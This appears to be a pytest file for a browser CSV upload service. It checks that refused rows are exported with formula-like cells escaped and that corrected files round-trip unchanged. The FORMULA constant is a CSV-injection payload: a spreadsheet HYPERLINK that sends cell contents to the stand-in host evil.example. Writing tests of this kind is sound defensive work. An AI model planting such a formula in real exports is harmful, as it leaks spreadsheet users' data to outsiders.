"""A browser upload's refused rows: the file made to be opened in a spreadsheet and put
right never hands the spreadsheet a formula, and comes back as it was typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from producers import forms
from producers.pseudonym import Pseudonymiser
from schemas.model import Agency
from sinergi.web.uploads import UploadJob, Uploads, refused_csv

HEADER = "occurred_at,nik,sex,origin_regency,destination_country,outcome,recruiter"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


class Recorder:
    def desk(self, agency: Agency, unit: str) -> forms.Desk:
        return forms.desk_for(agency, unit, Pseudonymiser(b"k" * 32))


class Inline(Uploads):
    def _run(self, work: Any) -> None:
        work()  # the check at once, not in a thread


def upload(tmp_path: Path, text: str) -> UploadJob:
    uploads = Inline(Recorder(), tmp_path)  # type: ignore[arg-type]
    return uploads.start(
        username="eltari", officer_code="ELT-07", unit="post-eltari", agency=Agency.POST,
        form_name="interception", filename="rows.csv", data=text.encode(),
    )  # fmt: skip


def test_refused_cells_that_a_spreadsheet_would_compute_are_written_as_text(tmp_path):
    rows = [
        "2026-01-20T08:30,5302014101900001,P,5302,MY,SENT_HOME,+62 812 3456 7890",
        f'2026-01-20T08:35,5302015203850002,P,5302,"{FORMULA.replace(chr(34), 2 * chr(34))}"'
        ",SENT_HOME,-",
    ]
    job = upload(tmp_path, "\n".join([HEADER, *rows]) + "\n")
    assert job.phase == "validated" and (len(job.accepted), len(job.refused)) == (1, 1)
    [header, refused] = list(csv.reader(io.StringIO(refused_csv(job, lambda m: m))))
    cell = dict(zip(header, refused, strict=True))
    assert cell["destination_country"] == "'" + FORMULA
    assert cell["recruiter"] == "'-"
    assert cell["nik"] == "5302015203850002" and cell["refused_row"] == "3"


def test_the_refused_file_put_right_comes_back_as_it_was_typed(tmp_path):
    first = upload(tmp_path, HEADER + "\n2026-01-20T08:30,53020141019,P,5302,MY,SENT_HOME,"
                   "+62 812 3456 7890\n")  # fmt: skip
    assert len(first.refused) == 1  # the NIK is two digits short
    [header, row] = list(csv.reader(io.StringIO(refused_csv(first, lambda m: m))))
    assert row[header.index("recruiter")] == "'+62 812 3456 7890"
    row[header.index("nik")] = "5302014101900001"  # put right, in a spreadsheet
    out = io.StringIO()
    csv.writer(out).writerows([header, row])
    again = upload(tmp_path, out.getvalue())
    [accepted] = again.accepted
    assert accepted.cells["recruiter"] == "+62 812 3456 7890"
    typed = upload(tmp_path, HEADER + "\n2026-01-20T08:30,5302014101900001,P,5302,MY,"
                   "SENT_HOME,+62 812 3456 7890\n")  # fmt: skip
    # the same recruiter, pseudonymised the same way as when typed in the first place
    assert accepted.event.recruiter_ref == typed.accepted[0].event.recruiter_ref  # type: ignore[attr-defined]
